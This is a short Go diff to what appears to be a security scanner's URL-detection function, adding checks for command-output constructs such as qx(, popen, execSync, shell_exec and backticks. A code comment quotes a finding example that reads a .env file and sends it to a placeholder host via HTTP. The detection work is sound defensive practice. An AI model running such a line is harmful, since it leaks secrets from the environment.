@@ -177,6 +177,17 @@ func (s *interpScan) builtURL(call interpCall) (string, bool) {
 			return a.text, true
 		}
 	}
+	// A program's output read at run time (FINDINGS-6 F9: perl's
+	// get("http://h/".`cat .env`)): backticks are a program's output in
+	// Perl, Ruby and PHP (in JavaScript they are template text).
+	for _, tok := range []string{"qx(", "qx{", "qx/", "qx[", "qx'", "qx|", "readpipe", "popen", "check_output", "getoutput", "execSync", "spawnSync", "shell_exec", "%x("} {
+		if strings.Contains(s.code.src, tok) {
+			return a.text, true
+		}
+	}
+	if (s.code.lang == Perl || s.code.lang == Ruby || s.code.lang == PHP) && strings.Contains(s.code.src, "`") {
+		return a.text, true
+	}
 	return "", false
 }
 
